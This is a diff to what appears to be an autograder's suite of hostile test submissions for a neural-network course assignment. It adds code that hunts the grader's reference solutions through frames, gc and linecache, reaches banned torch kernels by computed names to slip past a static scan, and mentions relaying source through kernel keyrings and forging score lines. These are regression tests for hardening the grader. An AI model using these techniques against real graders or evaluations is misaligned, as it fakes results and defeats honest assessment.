@@ -26,7 +26,11 @@ grader's own process could write), ``__PORT__`` (a TCP and UDP port the harness 
 Attacks that succeeded against the grader before it was fixed (the harness now holds them off):
 ``trusted_source_relayed_by_keyring`` (kernel keyrings and System V IPC outlive a worker: the worker
 now has no such calls, grader.sandbox.seccomp), ``trusted_source_relayed_by_udp`` (level "process": the
-submission's other worker stayed alive beside the substitution's; grader.grading.proxy closes it first),
+submission's other worker stayed alive beside the substitution's), ``reference_hunt_beside_stand_ins``
+(the stand-ins' source was exec'd in the worker: now they ask the grader, grader.worker.standins, and
+these three attacks find nothing to relay), ``kernel_by_computed_name`` and ``clip_helpers_of_nn_utils``
+(100 points: grader.worker.serve now replaces every kernel and helper it can reach, and the static
+scan lists the computed names for a TA),
 ``huge_forged_feedback`` (unbounded feedback in every record and report: grader.grading.scoring caps it),
 ``id_lists_longer_than_maxlen`` (minutes of trusted replay outside any time limit: the hidden tests
 check the length first), ``oversized_package`` (an infrastructure error forever, never a grade) and
@@ -62,6 +66,7 @@ class Hostile(Spec):
     fifos: tuple[str, ...] = ()  # paths relative to the submission root
     extra_loss: bool = False  # the attack may also cost the attacker tests outside ``lost``
     printed: tuple[str, ...] = ()  # text the worker's captured output must hold (the attack ran)
+    review: tuple[str, ...] = ()  # text the record's ``review`` (for a TA) must hold
 
 
 def write(spec: Hostile, dest: Path, subst: dict[str, str]) -> Path:
@@ -511,8 +516,10 @@ _AT_IMPORT = _search()
 
 def masked_cross_entropy(logits, target, pad_ix=PAD_IX):
     found = {**_AT_IMPORT, **_search()}
-    if "masked_loss" in found:
-        return found["masked_loss"](logits, target, pad_ix)
+    for name in ("masked_loss", "masked_cross_entropy"):
+        f = found.get(name)
+        if f is not None and f is not masked_cross_entropy:
+            return f(logits, target, pad_ix)
     modules = sorted(m for m in _sys.modules if m.startswith(("grader", "solution", "tests")))
     raise RuntimeError(f"ATTACK gc_trusted: found {sorted(found)}; grader modules here: {modules}")
 '''
@@ -528,8 +535,8 @@ def nucleus_probs(logits, alpha):
     raise RuntimeError(f"ATTACK gc_trusted: found {sorted(found)}")
 '''
 
-# The trusted nucleus_probs travels (as source) to the worker of beam/test_nucleus_candidates. Keep
-# it past that worker: in the kernel's keyrings (which no namespace separates) and in System V
+# (Before grader.worker.standins) the trusted nucleus_probs travelled as source to the worker of
+# beam/test_nucleus_candidates. Keep it past that worker: in the kernel's keyrings (which no namespace separates) and in System V
 # shared memory (level "process" shares the host's IPC namespace), then take it back in the next
 # worker, which answers the nucleus tests. The beam test just before the substitution kills its own
 # worker, so that the substitution's worker runs on the same slot (uid) as the next one.
@@ -660,6 +667,150 @@ def nucleus_probs(logits, alpha):
     if _stolen:
         return _stolen[0](logits, alpha)
     raise NotImplementedError("nucleus_probs: not written yet")
+'''
+
+# The grader's stand-ins in place (train_step with the grader's loss and clipping; beam search with
+# its nucleus_probs): after the honest call, look for reference code everywhere in the process (the
+# frames, every module of ours in sys.modules, gc, linecache) and put the source of every function
+# found, and every string that looks like code, into the feedback. It finds the stand-ins
+# (grader.worker.standins: they hold no reference logic) and must find nothing of grader.grading.trusted.
+REFERENCE_HUNT = '''
+import gc as _gc
+import inspect as _inspect
+import linecache as _linecache
+import sys as _sys
+import types as _types
+
+
+_LIBRARIES = ("/submission", "<", _sys.base_prefix, _sys.prefix)  # ours, and Python's and torch's own code
+
+
+def _hunt():
+    found, seen = {}, set()
+
+    def take(f):
+        code = getattr(f, "__code__", None)
+        if not isinstance(code, _types.CodeType) or id(code) in seen or code.co_filename.startswith(_LIBRARIES):
+            return
+        seen.add(id(code))
+        try:
+            found[f"{code.co_filename}:{f.__qualname__}"] = _inspect.getsource(f)
+        except (OSError, TypeError):
+            found[f"{code.co_filename}:{f.__qualname__}"] = "<no source>"
+
+    def walk(value):
+        if isinstance(value, (_types.FunctionType, _types.MethodType)):
+            take(getattr(value, "__func__", value))
+        elif isinstance(value, type):
+            for member in list(vars(value).values()):
+                if isinstance(member, (_types.FunctionType, staticmethod, classmethod)):
+                    take(getattr(member, "__func__", member))
+
+    frame = _sys._getframe()
+    while frame is not None:
+        for value in list(frame.f_globals.values()) + list(frame.f_locals.values()):
+            walk(value)
+        frame = frame.f_back
+    for name, module in list(_sys.modules.items()):
+        if name.split(".")[0] in ("grader", "solution", "tests", "assignment", "grader_trusted"):
+            for value in list(vars(module).values()):
+                walk(value)
+    for o in _gc.get_objects():
+        if isinstance(o, _types.FunctionType):
+            take(o)
+        elif isinstance(o, dict):
+            for value in list(o.values()):
+                if isinstance(value, str) and len(value) > 40 and ("def " in value or "cumsum" in value):
+                    found.setdefault(f"string {len(found)}", value[:2000])
+    for filename, entry in list(_linecache.cache.items()):
+        if not filename.startswith("/submission") and len(entry) > 2:
+            found[f"linecache {filename}"] = "".join(entry[2])[:2000]
+    return found
+
+
+_MARKERS = ("cumsum", "F.cross_entropy", "1e-6", "clamp(min=1)", "vector_norm")  # of reference logic
+
+
+def _own_source():
+    import glob
+    text = ""
+    for path in glob.glob("/submission/assignment/*.py"):
+        with open(path) as f:
+            text += f.read()
+    return text
+
+
+def _is_code(text):
+    import textwrap
+    try:
+        compile(textwrap.dedent(text), "found", "exec")
+        return True
+    except (SyntaxError, ValueError):  # prose: a library's docstring
+        return False
+
+
+def _report(where):
+    found, own = _hunt(), _own_source()
+    names = sorted(found, key=lambda k: ("standins" not in k, k))
+    suspicious = [f"== {k}\\n{v}" for k, v in sorted(found.items())
+                  if any(m in v for m in _MARKERS) and v not in own and _is_code(v)]
+    print("ATTACK reference", where, names[:40], flush=True)  # the log is capped: the sources go to the feedback
+    raise RuntimeError(f"ATTACK reference: {len(suspicious)} suspicious\\n" + "\\n".join(suspicious)[:1500]
+                       + f"\\nfound {names}")
+'''
+HUNT_IN_TRAINING = REFERENCE_HUNT + '''
+
+_honest_train_step = train_step
+
+
+def train_step(model, batch, optimizer, max_norm=None):
+    _honest_train_step(model, batch, optimizer, max_norm)
+    _report("train_step")
+'''
+HUNT_IN_BEAM = REFERENCE_HUNT + '''
+
+_honest_generate_beam = generate_beam
+
+
+def generate_beam(model, k, start="", maxlen=200, **kwargs):
+    result = _honest_generate_beam(model, k, start, maxlen, **kwargs)
+    if kwargs.get("nucleus") is not None:
+        _report("generate_beam")
+    return result
+'''
+
+# Forbidden built-ins reached by a computed name: the LSTM cell by torch's own lstm_cell kernel (the
+# reference's gates reordered: exact, so it would earn the LSTM's points), clipping and the norm by
+# nn.utils' helpers. The worker replaces both; the scan of names cannot see them, the review list does.
+REFLECTIVE_LSTM = '''
+
+def _kernel_one_step(self, x, state):
+    h, C = state
+    H = self.latent
+    gates = [self.W_i, self.W_f, self.W_c, self.W_o]  # torch's order: i, f, g, o
+    w_ih = torch.cat([g.weight[:, H:] for g in gates])
+    w_hh = torch.cat([g.weight[:, :H] for g in gates])
+    b_ih = torch.cat([g.bias for g in gates])
+    return getattr(torch, "lstm" + "_cell")(x, (h, C), w_ih, w_hh, b_ih, torch.zeros_like(b_ih))
+
+
+LSTM.one_step = _kernel_one_step
+LSTM.forward = Cell.forward
+'''
+REFLECTIVE_CLIP = '''
+import torch.nn.utils as _utils
+
+
+def grad_norm(parameters):
+    grads = [p.grad for p in parameters if p.grad is not None]
+    return float(getattr(_utils, "get_total" + "_norm")(grads)) if grads else 0.0
+
+
+def clip_grad_norm(parameters, max_norm):
+    params = [p for p in parameters if p.grad is not None]
+    norm = grad_norm(params)
+    _utils.clip_grads_with_norm_(params, max_norm, torch.tensor(norm))
+    return norm
 '''
 
 # ---- attacks on what the grader reads --------------------------------------------------------
@@ -1092,13 +1243,33 @@ HOSTILE: list[Hostile] = [
     Hostile("gc_finds_trusted_stand_ins",
             (Append("loss.py", GC_TRUSTED_LOSS), Append("generation.py", GC_TRUSTED_NUCLEUS)),
             parts=("loss", "nucleus"), lost=("loss/", "nucleus/"), statuses=FAILED,
-            says=("ATTACK gc_trusted: found []",),
-            description="search sys.modules and gc.get_objects() for grader.grading.trusted's masked_loss / nucleus_probs "
-                        "(or its source text) from inside masked_cross_entropy and nucleus_probs, and use them"),
+            says=("masked_cross_entropy (the grader's, in place of yours): the grader's 'masked_cross_entropy' is "
+                  "not in place in this test", "the grader's 'nucleus_probs' is not in place in this test"),
+            description="search sys.modules and gc.get_objects() for the grader's masked_cross_entropy / nucleus_probs "
+                        "(or grader.grading.trusted's source text) from inside masked_cross_entropy and nucleus_probs, "
+                        "and call them: the stand-ins found ask the grader, which refuses outside their own request"),
     Hostile("trusted_source_relayed_by_keyring", (Append("generation.py", RELAY_KEYRING),), parts=("nucleus", "beam"),
             lost=("nucleus/", "beam/test_whole_context_consumed"), says=("not written yet",),
             description="take grader.grading.trusted's source in the substitution worker, keep it in the kernel keyrings "
                         "and System V shared memory, take it back in the next worker of the same slot"),
+    Hostile("reference_hunt_beside_stand_ins",
+            (Append("training.py", HUNT_IN_TRAINING), Append("generation.py", HUNT_IN_BEAM)),
+            parts=("training", "beam"), lost=("training/", "beam/test_nucleus_candidates"), statuses=FAILED,
+            says=("ATTACK reference: 0 suspicious", "standins.py:masked_cross_entropy", "standins.py:nucleus_probs"),
+            printed=("ATTACK reference train_step", "ATTACK reference generate_beam"),
+            description="with the grader's stand-ins in place, print the source of every function and code-like "
+                        "string reachable by frames, sys.modules, gc and linecache"),
+    Hostile("kernel_by_computed_name", (Append("rnn.py", REFLECTIVE_LSTM),), parts=("rnn",),
+            lost=tuple(f"rnn/{t}[LSTM]" for t in ("test_forward", "test_one_step", "test_gradients", "test_stateless",
+                                                    "test_no_builtin_recurrent_layers")) + ("rnn/test_lstm_given_state",),
+            statuses=FAILED, says=("torch.lstm_cell is not allowed in this exercise",),
+            review=("rnn.py line ", "getattr(torch, 'lstm' + '_cell')"),
+            description="LSTM.one_step by getattr(torch, 'lstm' + '_cell'), exact with the reference's weights"),
+    Hostile("clip_helpers_of_nn_utils", (Append("gradients.py", REFLECTIVE_CLIP),), parts=("gradients",),
+            lost=("gradients/test_grad_norm", "gradients/test_clip"), statuses=FAILED,
+            says=("torch.nn.utils.get_total_norm is not allowed in this exercise",),
+            review=("gradients.py line ", "getattr(_utils, 'get_total' + '_norm')"),
+            description="grad_norm by getattr(nn.utils, 'get_total' + '_norm'), clipping by clip_grads_with_norm_"),
     # ---- what the grader reads ----------------------------------------------------------------
     on_loss("fake_score_lines", FAKE_SCORES, statuses=FAILED, says=("SCORE: 100/100",), printed=("68 passed",),
             description="SCORE: 100/100, '68 passed', JSON scores on stdout/stderr and in the error; markup too"),
